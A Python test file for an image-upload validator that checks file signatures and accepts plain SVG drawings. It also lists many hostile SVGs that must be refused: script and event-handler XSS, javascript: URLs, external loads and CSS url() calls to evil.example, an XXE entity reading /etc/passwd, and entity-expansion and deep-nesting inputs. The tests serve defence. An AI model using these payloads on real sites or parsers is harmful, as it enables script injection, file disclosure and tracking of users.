"""What an image may be, and that SVG which could do something is refused."""

import base64
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from poolhouse.domain.images import content_of, image, recognised
from poolhouse.errors import InvalidParameterException

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 20
WEBP = b"RIFF\x24\0\0\0WEBPVP8 "
ICO = b"\x00\x00\x01\x00\x01\x00"


def svg(inside="", *, attributes="", before=""):
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 9 9"{attributes}>{inside}</svg>'
    ).encode()


def accepted(extension, content):
    try:
        image("us-east-1_A", "o", extension, content)
    except InvalidParameterException:
        return False
    return True


@pytest.mark.parametrize(
    ("extension", "content"), [("PNG", PNG), ("JPEG", JPEG), ("WEBP", WEBP), ("ICO", ICO), ("SVG", svg())]
)
def test_an_image_is_what_its_first_bytes_say(extension, content):
    assert accepted(extension, content)
    for other in {"PNG", "JPEG", "WEBP", "ICO", "SVG"} - {extension}:
        assert not accepted(other, content)


@pytest.mark.parametrize(
    "drawing",
    [
        svg("<path d='M0 0h9'/>"),
        svg("<title>Ex &amp; Co</title><g fill='red'><circle r='3'/></g>"),
        svg("<defs><linearGradient id='a'><stop offset='0'/></linearGradient></defs><path fill='url(#a)'/>"),
        svg("<style>.st0{fill:#fff;clip-path:url(#b)}</style><rect class='st0'/>"),
        svg("<symbol id='s'/><use href='#s'/><use xlink:href='#s'/>"),
        svg("<image href='data:image/png;base64,iVBORw0KGgo='/>"),
        svg("<path style='fill:rgb(1,2,3)' transform='translate(1 2)'/>"),
        svg(before="<?xml version='1.0' encoding='UTF-8'?><!-- drawn by hand -->"),
        svg(
            "<metadata><r:RDF xmlns:r='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/></metadata>"
            "<i:grid xmlns:i='http://www.inkscape.org/namespaces/inkscape' i:on='x'/>"
        ),
        svg().decode().encode("utf-16"),
    ],
)
def test_drawings(drawing):
    assert accepted("SVG", drawing)


@pytest.mark.parametrize(
    "attack",
    [
        svg("<script>alert(1)</script>"),
        svg("<g><script href='https://evil.example/x.js'/></g>"),
        svg("<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>"),
        svg("<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"),
        svg("<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='//evil.example'/>"),
        svg("<SCRIPT>alert(1)</SCRIPT>"),
        svg(attributes=" onload='alert(1)'"),
        svg("<rect ONCLICK='alert(1)'/>"),
        svg("<rect xlink:onclick='alert(1)'/>"),
        svg("<a href='javascript:alert(1)'><rect/></a>"),
        svg("<use href='https://evil.example/x.svg#a'/>"),
        svg("<use xlink:href='//evil.example/x.svg#a'/>"),
        svg("<use href='data:image/svg+xml;base64,PHN2Zy8+'/>"),
        svg("<image href='https://evil.example/track.png'/>"),
        svg("<image href='data:image/svg+xml,x'/>"),
        svg("<image href='java&#10;script:alert(1)'/>"),
        svg("<foreignObject><b/></foreignObject>"),
        svg("<animate attributeName='href' to='javascript:alert(1)'/>"),
        svg("<set attributeName='onload' to='alert(1)'/>"),
        svg("<style>@import url(https://evil.example/x.css);</style>"),
        svg("<style>rect{fill:url(https://evil.example/x)}</style>"),
        svg("<style>rect{fill:u\\72l(https://evil.example/x)}</style>"),
        svg("<style>rect{background:image-set('https://evil.example/x' 1x)}</style>"),
        svg("<style>@font-face{src:url(#x)}</style>"),
        svg("<style><![CDATA[rect{fill:url('//evil.example')}]]></style>"),
        svg("<style>a{b:c</style><g><style>}d{e:url(//evil.example)}</style></g>"),
        svg("<rect fill='url(https://evil.example/x)'/>"),
        svg("<rect style='fill:url(\"https://evil.example/x\")'/>"),
        svg("<rect style='fill:\\75 rl(//evil.example)'/>"),
        svg(before="<?xml-stylesheet href='https://evil.example/x.css'?>"),
        svg("&x;", before="<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
        svg("&b;", before="<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]>"),
        svg("<g>" * 200 + "</g>" * 200),
        svg("<g/>" * 30_000),
        b"<svg onload='alert(1)'/>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='http://www.w3.org/2000/svg'/></html>",
        b"",
        b"\xff\xfe",
        b"<svg",
        svg() + b"<script/>",
        b"GIF89a",
    ],
)
def test_a_drawing_that_could_do_something_is_refused(attack):
    assert not accepted("SVG", attack)


@given(st.binary(max_size=400) | st.text(max_size=200).map(svg))
def test_anything_is_judged(content):
    for extension in ("PNG", "JPEG", "WEBP", "ICO", "SVG"):
        accepted(extension, content)


@given(
    st.lists(
        st.sampled_from(
            [
                "<g>",
                "</g>",
                "<rect ",
                "fill='",
                "url(",
                "#a",
                ")",
                "'/>",
                "<script>",
                "</script>",
                " on",
                "load='",
            ]
        ),
        max_size=12,
    )
)
def test_no_mixture_smuggles_a_script_in(parts):
    text = "".join(parts)
    if accepted("SVG", svg(text)):
        for element in ET.fromstring(svg(text)).iter():  # noqa: S314
            assert not element.tag.endswith("script")
            assert not any(name.startswith("on") for name in element.attrib)


def test_logos_are_recognised():
    assert [recognised(content) for content in (PNG, JPEG, WEBP, svg(), b"")] == [
        "PNG",
        "JPEG",
        None,
        None,
        None,
    ]


@given(st.binary(max_size=100))
def test_base64(content):
    assert content_of(base64.b64encode(content).decode()) == content


@pytest.mark.parametrize("blob", ["a", "!!!!", "YQ", "YQ==YQ==", "YQ ==", "é"])
def test_no_base64(blob):
    with pytest.raises(InvalidParameterException):
        content_of(blob)
